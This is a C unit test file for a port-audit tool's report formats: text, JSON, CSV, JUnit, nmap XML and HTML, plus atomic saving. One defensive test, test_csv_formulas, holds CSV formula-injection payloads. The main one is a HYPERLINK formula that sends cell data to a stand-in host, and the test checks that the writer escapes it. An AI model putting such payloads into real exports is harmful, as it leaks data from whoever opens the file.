/*
 * Unit tests of the reporters: each format rendered from the small audit and scan
 * of result_fixture.c and checked line by line where the format is a contract
 * (csv rows, junit counts, nmap XML elements), a pass that carries a finding,
 * and the atomic save: the file is the old one or the whole new one, never a
 * part, and no temporary file stays.
 */
#include "config.h"

#include <check.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "portproof.h"
#include "pp_report.h"
#include "result_fixture.h"
#include "runner.h"

static const struct pp_report_opts color = {.color = 1};

START_TEST(test_registry)
{
	const struct pp_reporter *const *l = pp_report_list();
	struct pp_result *r = fx_scan();
	char err[256];
	size_t n;

	for (n = 0; l[n] != NULL; n++)
		ck_assert_ptr_eq(pp_report_find(l[n]->name), l[n]);
	ck_assert_uint_eq(n, 6);
	ck_assert_ptr_nonnull(pp_report_find("html"));
	ck_assert_int_eq(pp_report_render("yaml", r, stdout, NULL, err, sizeof(err)), PP_EINVAL);
	ck_assert_str_eq(err,
	                 "unknown format 'yaml' (expected text, json, csv, junit, xml or html)");
	pp_result_free(r);
}
END_TEST

START_TEST(test_text_audit)
{
	struct pp_result *r = fx_audit();
	char *s = fx_render("text", r, NULL), *high, *info;

	ck_assert_ptr_nonnull(strstr(s, "portproof 0.1.0 audit of mediasense-lab: 2 hosts"));
	ck_assert_ptr_nonnull(strstr(s, "\n198.18.1.10 ms-primary (cisco-mediasense, primary): "
	                                "score 33.3\n"));
	high = strstr(s, "  high   blocked      tcp/8440  tcp/8440 (API access, mandatory) is "
	                 "filtered");
	info = strstr(s, "  info   inconclusive udp/161   udp/161 (SNMP, optional) did not answer: "
	                 "open or filtered [Table 1, SNMP UDP 161]\n");
	ck_assert_ptr_nonnull(high);
	ck_assert_ptr_nonnull(info);
	ck_assert(high < info);
	/* The ref is not repeated when the detail already cites it. */
	ck_assert_ptr_null(strstr(s, "TCP 8440) [Table 1"));
	ck_assert_ptr_nonnull(
	        strstr(s, "  PORT      STATE          SERVICE    REASON               VERDICT\n"));
	ck_assert_ptr_nonnull(
	        strstr(s, "  8440/tcp  filtered       api-https  no-response          blocked\n"));
	ck_assert_ptr_nonnull(
	        strstr(s, "  5060/tcp  closed         sip-tcp        rst ttl 64       missing\n"));
	ck_assert_ptr_nonnull(
	        strstr(s, "  Not shown: other tcp ports closed; other udp ports open|filtered\n"));
	ck_assert_ptr_null(strstr(s, "ICMP rate limit")); /* no port unreachable seen */
	ck_assert_ptr_nonnull(strstr(s, "\nsummary: score 35.3; 2 pass, 1 missing, 1 blocked, 1 "
	                                "exposed, 1 unexpected, 1 inconclusive\n"));
	ck_assert_ptr_null(strchr(s, '\033'));
	free(s);
	s = fx_render("text", r, &color);
	ck_assert_ptr_nonnull(strstr(s, "\033[1;31mhigh\033[0m"));
	free(s);
	pp_result_free(r);
}
END_TEST

/* A dynamic range's samples: one row (range, samples, states, verdicts), then
 * only the samples that did not pass; -v lists them all; the JSON keeps each. */
START_TEST(test_text_ranges)
{
	static const struct pp_report_opts verbose = {.verbose = 1};
	static const unsigned ports[] = {32768, 40000, 52000, 61000};
	struct pp_result *r = fx_audit();
	struct pp_host_result *h = &r->hosts[0];
	struct pp_port_result *p;
	char *s;
	size_t i;

	for (i = 0; i < 4; i++) {
		int silent = ports[i] == 40000;
		p = fx_port(h, PP_PROTO_UDP, ports[i],
		            silent ? PP_STATE_OPEN_FILTERED : PP_STATE_CLOSED,
		            silent ? PP_REASON_NO_RESPONSE : PP_REASON_ICMP_UNREACH,
		            silent ? PP_VERDICT_INCONCLUSIVE : PP_VERDICT_PASS,
		            silent ? PP_SEV_INFO : PP_SEV_NONE, PP_RREQ_MANDATORY, "rtp-in",
		            "Table 1, ephemeral range", NULL);
		p->icmp_code = 3;
		ck_assert_ptr_nonnull(p->range = strdup("32768-61000"));
	}
	pp_result_sort(r);
	s = fx_render("text", r, NULL);
	ck_assert_ptr_nonnull(strstr(s,
	                             "  32768-61000/udp  4 samples      rtp-in     3 closed, 1 "
	                             "open|filtered  3 pass, 1 inconclusive\n"
	                             "  40000/udp        open|filtered  rtp-in     no-response"));
	ck_assert_uint_eq(fx_count(s, "32768-61000/udp"), 1);
	ck_assert_ptr_null(strstr(s, "  32768/udp"));
	ck_assert_ptr_null(strstr(s, "  61000/udp"));
	free(s);
	s = fx_render("text", r, &verbose);
	ck_assert_ptr_nonnull(strstr(s, "  32768-61000/udp  4 samples"));
	for (i = 0; i < 4; i++) {
		char row[32];
		snprintf(row, sizeof(row), "  %u/udp  ", ports[i]);
		ck_assert_msg(strstr(s, row) != NULL, "-v lists %s", row);
	}
	free(s);
	s = fx_json(r);
	ck_assert_uint_eq(fx_count(s, "\"range\": \"32768-61000\""), 4);
	free(s);
	pp_result_free(r);
}
END_TEST

/* A host that sent a burst's worth of port unreachables and left unjudged UDP
 * ports unanswered: the text says its ICMP limit, not the network, most likely
 * did (issue 16). */
START_TEST(test_text_icmp_limit)
{
	struct pp_result *r = fx_audit();
	struct pp_port_result *p;
	unsigned port;
	char *s;

	/* Five port unreachables: under Linux's burst, no limit was met. */
	for (port = 7101; port <= 7106; port++) {
		if (port == 7106) {
			s = fx_render("text", r, NULL);
			ck_assert_ptr_null(strstr(s, "ICMP rate limit"));
			free(s);
		}
		p = fx_port(&r->hosts[0], PP_PROTO_UDP, port, PP_STATE_CLOSED,
		            PP_REASON_ICMP_UNREACH, PP_VERDICT_NONE, PP_SEV_NONE, PP_RREQ_NONE,
		            NULL, NULL, NULL);
		p->icmp_code = 3;
		pp_result_sort(r);
	}
	s = fx_render("text", r, NULL);
	ck_assert_uint_eq(fx_count(s, "its ICMP rate limit held theirs back"), 1);
	ck_assert_ptr_nonnull(strstr(s, "other udp ports open|filtered\n  Unanswered udp ports "
	                                "that no expectation of this host judges are most likely "
	                                "closed: "));
	free(s);
	/* Nothing unanswered that nothing judges: nothing to say. */
	r->hosts[0].other_udp = PP_STATE_CLOSED;
	s = fx_render("text", r, NULL);
	ck_assert_ptr_null(strstr(s, "ICMP rate limit"));
	free(s);
	/* An unjudged port unanswered in a range of the host's own whose judged
	 * samples got no answer either: a firewall drops the range, not the limit
	 * (the Equinox lab's H.323 Edge, issue 16). */
	p = fx_port(&r->hosts[0], PP_PROTO_UDP, 12000, PP_STATE_OPEN_FILTERED,
	            PP_REASON_NO_RESPONSE, PP_VERDICT_PASS, PP_SEV_NONE, PP_RREQ_MANDATORY,
	            "edge-media", "line 244", NULL);
	p->range = strdup("12000-15000");
	fx_port(&r->hosts[0], PP_PROTO_UDP, 12071, PP_STATE_OPEN_FILTERED, PP_REASON_NO_RESPONSE,
	        PP_VERDICT_NONE, PP_SEV_NONE, PP_RREQ_NONE, NULL, NULL, NULL);
	pp_result_sort(r);
	s = fx_render("text", r, NULL);
	ck_assert_ptr_null(strstr(s, "ICMP rate limit"));
	free(s);
	/* One outside it: the limit again. */
	fx_port(&r->hosts[0], PP_PROTO_UDP, 16000, PP_STATE_OPEN_FILTERED, PP_REASON_NO_RESPONSE,
	        PP_VERDICT_NONE, PP_SEV_NONE, PP_RREQ_NONE, NULL, NULL, NULL);
	pp_result_sort(r);
	s = fx_render("text", r, NULL);
	ck_assert_uint_eq(fx_count(s, "its ICMP rate limit held theirs back"), 1);
	free(s);
	/* A scan asks every port past the limit: never said. */
	r->hosts[0].other_udp = PP_STATE_OPEN_FILTERED;
	free(r->deployment);
	r->deployment = NULL;
	s = fx_render("text", r, NULL);
	ck_assert_ptr_null(strstr(s, "ICMP rate limit"));
	free(s);
	pp_result_free(r);
}
END_TEST

START_TEST(test_text_scan)
{
	struct pp_result *r = fx_scan();
	char *s;

	r->complete = 0;
	s = fx_render("text", r, NULL);
	ck_assert_ptr_nonnull(strstr(s,
	                             "portproof 0.1.0 scan: 1 host, 2026-11-21 23:15:03 UTC, 1 s, "
	                             "1030 sent, 1024 answered\n"));
	ck_assert_ptr_nonnull(strstr(s, "incomplete: the scan was interrupted"));
	ck_assert_ptr_nonnull(strstr(s, "\n198.18.0.2\n"));
	ck_assert_ptr_nonnull(strstr(s, "icmp-admin-prohibited"));
	ck_assert_ptr_nonnull(strstr(s, "53/udp  open           dns"));
	ck_assert_ptr_null(strstr(s, "score"));
	ck_assert_ptr_null(strstr(s, "VERDICT"));
	ck_assert_ptr_nonnull(strstr(s, "  Not shown: other tcp ports closed\n"));
	ck_assert_ptr_nonnull(strstr(s, "summary: 3 open, 0 closed, 1 filtered"));
	free(s);
	pp_result_free(r);
}
END_TEST

START_TEST(test_json)
{
	struct pp_result *r = fx_audit();
	char *a = fx_render("json", r, &color), *b = fx_json(r);

	ck_assert_str_eq(a, b);
	free(a);
	free(b);
	pp_result_free(r);
}
END_TEST

START_TEST(test_csv)
{
	struct pp_result *r = fx_audit();
	char *s, *line, *save = NULL;
	size_t n = 0;

	free(r->hosts[1].ports[1].detail);
	r->hosts[1].ports[1].detail = strdup("say \"no\", twice");
	s = fx_render("csv", r, NULL);
	for (line = strtok_r(s, "\n", &save); line != NULL; line = strtok_r(NULL, "\n", &save)) {
		if (n == 0)
			ck_assert_str_eq(
			        line, "address,name,profile,role,proto,port,vantage,state,reason,"
			              "rtt_us,ttl,probe,service,requirement,verdict,severity,ref,"
			              "detail,seen,seen_detail");
		if (n == 2)
			ck_assert_str_eq(
			        line, "198.18.1.10,ms-primary,cisco-mediasense,primary,tcp,8440,,"
			              "filtered,no-response,0,0,,api-https,mandatory,blocked,high,"
			              "\"Table 1, HTTPS TCP 8440\",\"tcp/8440 (API access, "
			              "mandatory) is filtered from vantage any: a firewall between "
			              "here and ms-primary drops it (Table 1, HTTPS TCP 8440)\",,");
		if (n == 6)
			ck_assert_str_eq(
			        line, "198.18.1.12,ms-expansion,cisco-mediasense,expansion,tcp,"
			              "5060,,closed,rst,260,64,,sip-tcp,recommended,missing,medium,"
			              "\"Table 1, SIP TCP 5060\",\"say \"\"no\"\", twice\",,");
		n++;
	}
	ck_assert_uint_eq(n, 1 + 7);
	free(s);
	pp_result_free(r);
	r = fx_scan();
	s = fx_render("csv", r, NULL);
	ck_assert_ptr_nonnull(
	        strstr(s, "\n198.18.0.2,,,,udp,53,,open,udp-response,0,0,dns,,,,,,,,\n"));
	ck_assert_uint_eq(fx_count(s, "\n"), 1 + 4);
	free(s);
	pp_result_free(r);
}
END_TEST

/*
 * Cells a spreadsheet would run as formulas (= + - @, tab, CR first) are quoted
 * with a ' in front; other text and the numbers are as they were.  The service is
 * what a hostile SIP server could put in its User-Agent.
 */
START_TEST(test_csv_formulas)
{
	struct pp_result *r = fx_scan();
	struct pp_host_result *h = &r->hosts[0];
	struct pp_port_result *p = pp_host_find_port(h, PP_PROTO_UDP, 53);
	char *s;

	h->name = strdup("-2+3");
	h->role = strdup("a=b");
	p->service = strdup("=HYPERLINK(\"http://x.test/?\"&A1,\"update\")");
	p->rtt_us = 1234;
	p->ref = strdup("\t=1+1");
	p->detail = strdup("\r@SUM(A1)");
	free(p->probe);
	p->probe = strdup("+sip");
	s = fx_render("csv", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,udp,53,,open,udp-response,"
	                                "1234,0,\"'+sip\",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,"
	                                "\"\"update\"\")\",,,,\"'\t=1+1\",\"'\r@SUM(A1)\",,\n"));
	/* Numbers and the text of an ordinary row are untouched. */
	ck_assert_ptr_nonnull(
	        strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,tcp,22,,open,syn-ack,222,64,,,,,,,,,\n"));
	free(s);
	pp_result_free(r);
}
END_TEST

START_TEST(test_junit)
{
	struct pp_result *r = fx_audit();
	char *s;

	free(r->hosts[0].name);
	r->hosts[0].name = strdup("ms<primary>&\"co\"\x01");
	s = fx_render("junit", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "<testsuites name=\"portproof mediasense-lab\" tests=\"7\" "
	                                "failures=\"4\" errors=\"0\" skipped=\"1\""));
	ck_assert_uint_eq(fx_count(s, "<testcase "), 7);
	ck_assert_uint_eq(fx_count(s, "<failure "), 4);
	ck_assert_uint_eq(fx_count(s, "<skipped "), 1);
	ck_assert_ptr_nonnull(strstr(s, "classname=\"mediasense-lab.ms&lt;primary&gt;&amp;&quot;co&"
	                                "quot;\" name=\"tcp/8440 api-https\""));
	ck_assert_ptr_nonnull(strstr(s, "<failure type=\"blocked\" message=\"tcp/8440 (API access, "
	                                "mandatory) is filtered"));
	ck_assert_ptr_nonnull(strstr(s, "name=\"tcp/9999 unexpected\""));
	ck_assert_ptr_nonnull(strstr(s, "&#10;ref: Table 1, HTTPS TCP 8440</failure>"));
	ck_assert_ptr_null(strchr(s, '\x01'));
	free(s);
	pp_result_free(r);
	r = fx_scan();
	s = fx_render("junit", r, NULL);
	ck_assert_uint_eq(fx_count(s, "<testcase classname=\"scan.198.18.0.2\""), 4);
	ck_assert_uint_eq(fx_count(s, "<failure"), 0);
	ck_assert_ptr_nonnull(strstr(s, "tests=\"4\" failures=\"0\""));
	free(s);
	pp_result_free(r);
}
END_TEST

/* A pass that carries a finding (a TLS certificate that expires soon): listed
 * with the findings in text and html, a passing testcase in junit that says so,
 * the failures and the verdict counts unchanged. */
START_TEST(test_pass_finding)
{
	struct pp_result *r = fx_audit();
	struct pp_port_result *p =
	        pp_host_find_port(pp_result_find_host4(r, 0xc612010a), PP_PROTO_TCP, 22);
	char *s;

	p->severity = PP_SEV_LOW;
	p->detail = strdup("tcp/22 (SSH) is open from vantage any and speaks TLS, but its "
	                   "certificate expires in 10 days: renew it (Table 1, SSH TCP 22)");
	s = fx_render("text", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "\n  low    pass         tcp/22    tcp/22 (SSH) is open "
	                                "from vantage any and speaks TLS, but its certificate "
	                                "expires in 10 days: renew it (Table 1, SSH TCP 22)\n"));
	ck_assert_ptr_nonnull(strstr(s, "summary: score 35.3; 2 pass, 1 missing"));
	free(s);
	s = fx_render("junit", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "tests=\"7\" failures=\"4\" errors=\"0\" skipped=\"1\""));
	ck_assert_ptr_nonnull(strstr(s, "<system-out>open (syn-ack)&#10;severity low: tcp/22 (SSH) "
	                                "is open"));
	ck_assert_uint_eq(fx_count(s, "severity low"), 1);
	free(s);
	s = fx_render("html", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "its certificate expires in 10 days: renew it"));
	free(s);
	/* The same port without a severity is no finding. */
	p->severity = PP_SEV_NONE;
	s = fx_render("text", r, NULL);
	ck_assert_ptr_null(strstr(s, "pass         tcp/22"));
	free(s);
	pp_result_free(r);
}
END_TEST

START_TEST(test_xml)
{
	struct pp_result *r = fx_scan();
	char *s = fx_render("xml", r, NULL);

	ck_assert_ptr_nonnull(strstr(s, "<nmaprun scanner=\"portproof\" args=\"portproof scan -p "
	                                "T:1-1024,U:53 198.18.0.2\" start=\"1795302903\" "
	                                "startstr=\"Sat Nov 21 23:15:03 2026\" version=\"0.1.0\" "
	                                "xmloutputversion=\"1.05\">"));
	ck_assert_ptr_nonnull(strstr(s, "<scaninfo type=\"syn\" protocol=\"tcp\" numservices=\"3\" "
	                                "services=\"22,80-81\"/>"));
	ck_assert_ptr_nonnull(strstr(s, "<address addr=\"198.18.0.2\" addrtype=\"ipv4\"/>"));
	ck_assert_ptr_nonnull(
	        strstr(s, "<status state=\"up\" reason=\"syn-ack\" reason_ttl=\"64\"/>"));
	ck_assert_ptr_nonnull(strstr(s, "<port protocol=\"tcp\" portid=\"81\"><state "
	                                "state=\"filtered\" reason=\"admin-prohibited\" "
	                                "reason_ttl=\"0\"/>"));
	ck_assert_ptr_nonnull(strstr(s,
	                             "<port protocol=\"udp\" portid=\"53\"><state state=\"open\" "
	                             "reason=\"udp-response\" reason_ttl=\"0\"/><service "
	                             "name=\"dns\" method=\"probed\" conf=\"10\"/></port>"));
	ck_assert_ptr_nonnull(strstr(s, "<hosts up=\"1\" down=\"0\" total=\"1\"/>"));
	ck_assert_ptr_nonnull(strstr(s, "</nmaprun>\n"));
	ck_assert_ptr_null(strstr(s, "<script"));
	free(s);
	pp_result_free(r);
	r = fx_audit();
	s = fx_render("xml", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "<hostname name=\"ms-primary\" type=\"user\"/>"));
	ck_assert_ptr_nonnull(strstr(s,
	                             "<script id=\"portproof\" output=\"blocked (high): tcp/8440 "
	                             "(API access, mandatory)"));
	ck_assert_uint_eq(fx_count(s, "<script "), 7);
	ck_assert_uint_eq(fx_count(s, "<host "), 2);
	free(s);
	pp_result_free(r);
}
END_TEST

/* Files in dir whose name starts with prefix. */
static int
files_like(const char *dir, const char *prefix)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	int n = 0;

	ck_assert_ptr_nonnull(d);
	while ((e = readdir(d)) != NULL)
		n += strncmp(e->d_name, prefix, strlen(prefix)) == 0;
	closedir(d);
	return n;
}

static int
half_then_fail(FILE *fp, void *arg)
{
	(void)arg;
	fputs("{\"schema\": ", fp);
	return PP_EIO;
}

static char *
slurp(const char *path)
{
	FILE *fp = fopen(path, "r");
	char *buf = calloc(1, 1 << 16);

	ck_assert_ptr_nonnull(fp);
	fread(buf, 1, (1 << 16) - 1, fp);
	fclose(fp);
	return buf;
}

START_TEST(test_save_atomic)
{
	char dir[] = "/tmp/check_report.XXXXXX", path[256], err[256], *got, *want;
	struct pp_result *r = fx_audit();
	struct stat st;

	ck_assert_ptr_nonnull(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/out.json", dir);
	ck_assert_int_eq(pp_report_save("json", r, path, NULL, err, sizeof(err)), 0);
	got = slurp(path);
	want = fx_json(r);
	ck_assert_str_eq(got, want);
	free(got);

	/* A failing writer leaves the old file whole, and no temporary file. */
	ck_assert_int_eq(chmod(path, 0600), 0);
	ck_assert_int_eq(pp_save_atomic(path, half_then_fail, NULL, err, sizeof(err)), PP_EIO);
	got = slurp(path);
	ck_assert_str_eq(got, want);
	free(got);
	ck_assert_int_eq(files_like(dir, ".out.json."), 0);

	/* Replacing keeps the mode; an unknown format creates nothing. */
	ck_assert_int_eq(pp_report_save("csv", r, path, NULL, err, sizeof(err)), 0);
	ck_assert_int_eq(stat(path, &st), 0);
	ck_assert_uint_eq(st.st_mode & 0777, 0600);
	snprintf(path, sizeof(path), "%s/new.pdf", dir);
	ck_assert_int_eq(pp_report_save("pdf", r, path, NULL, err, sizeof(err)), PP_EINVAL);
	ck_assert_int_ne(access(path, F_OK), 0);

	/* A missing directory or a directory as target: an error naming the path. */
	snprintf(path, sizeof(path), "%s/no/such/dir.json", dir);
	ck_assert_int_eq(pp_report_save("json", r, path, NULL, err, sizeof(err)), PP_EIO);
	ck_assert_ptr_nonnull(strstr(err, path));
	ck_assert_int_eq(pp_report_save("json", r, dir, NULL, err, sizeof(err)), PP_EINVAL);
	ck_assert_ptr_nonnull(strstr(err, "is a directory"));

	/* A device is written in place, never renamed over. */
	ck_assert_int_eq(pp_report_save("json", r, "/dev/null", NULL, err, sizeof(err)), 0);
	ck_assert_int_eq(stat("/dev/null", &st), 0);
	ck_assert(S_ISCHR(st.st_mode));

	snprintf(path, sizeof(path), "%s/out.json", dir);
	unlink(path);
	rmdir(dir);
	free(want);
	pp_result_free(r);
}
END_TEST

/* A result joined from two zones: a column per zone in text and HTML, the zone
 * in the CSV, a JUnit testcase per (host, port, zone), one host list per zone in
 * the nmap XML; and a zone no result covers, named everywhere as not a pass. */
START_TEST(test_zones)
{
	struct pp_result *r = fx_zones(0);
	char *s;

	s = fx_render("text", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, ", from vantages any, cluster\n"));
	ck_assert_ptr_nonnull(strstr(s,
	                             "\n  PORT            SERVICE                  from any       "
	                             "          from cluster\n"));
	ck_assert_ptr_nonnull(strstr(s,
	                             "\n  tcp/8443        cluster-https            open exposed  "
	                             "           open pass\n"));
	ck_assert_ptr_nonnull(strstr(s, "\n  tcp/8440        api-https                filtered "
	                                "blocked         filtered blocked\n"));
	ck_assert_ptr_null(strstr(s, "NOT VERIFIED"));
	free(s);
	s = fx_render("html", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "<section id=\"matrix\">"));
	ck_assert_ptr_nonnull(strstr(s, "<th scope=\"col\">from cluster</th>"));
	ck_assert_ptr_null(strstr(s, "id=\"heatmap\""));
	free(s);
	s = fx_render("csv", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "\n198.18.1.12,ms-expansion,cisco-mediasense,expansion,tcp,"
	                                "8443,any,open,syn-ack,"));
	ck_assert_ptr_nonnull(strstr(s, "\n198.18.1.12,ms-expansion,cisco-mediasense,expansion,tcp,"
	                                "8443,cluster,open,syn-ack,"));
	ck_assert_uint_eq(fx_count(s, "\n"), 1 + 2 * 7);
	free(s);
	s = fx_render("junit", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "name=\"tcp/8443 cluster-https from cluster\""));
	ck_assert_ptr_nonnull(strstr(s, "tests=\"14\" failures=\"7\""));
	free(s);
	s = fx_render("xml", r, NULL);
	ck_assert_uint_eq(fx_count(s, "<host "), 4);
	ck_assert_ptr_nonnull(strstr(s, "<hostname name=\"ms-primary from cluster\""));
	free(s);
	pp_result_free(r);

	r = fx_zones(1);
	ck_assert_uint_eq(r->nunverified, 1);
	s = fx_render("text", r, NULL);
	ck_assert_ptr_nonnull(strstr(
	        s, "\nNOT VERIFIED from vantage cluster: no result covers it, 6 rows unchecked\n"));
	free(s);
	s = fx_render("junit", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "<failure type=\"unverified\" message=\"no result from "
	                                "vantage cluster: 6 rows unverified from there\"/>"));
	free(s);
	s = fx_render("html", r, NULL);
	ck_assert_ptr_nonnull(strstr(s, "Not verified from zone cluster"));
	free(s);
	pp_result_free(r);
}
END_TEST

static Suite *
report_suite(void)
{
	Suite *s = suite_create("report");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, test_registry);
	tcase_add_test(tc, test_text_audit);
	tcase_add_test(tc, test_text_ranges);
	tcase_add_test(tc, test_text_icmp_limit);
	tcase_add_test(tc, test_text_scan);
	tcase_add_test(tc, test_json);
	tcase_add_test(tc, test_csv);
	tcase_add_test(tc, test_csv_formulas);
	tcase_add_test(tc, test_junit);
	tcase_add_test(tc, test_pass_finding);
	tcase_add_test(tc, test_xml);
	tcase_add_test(tc, test_zones);
	tcase_add_test(tc, test_save_atomic);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return run_suite(report_suite());
}
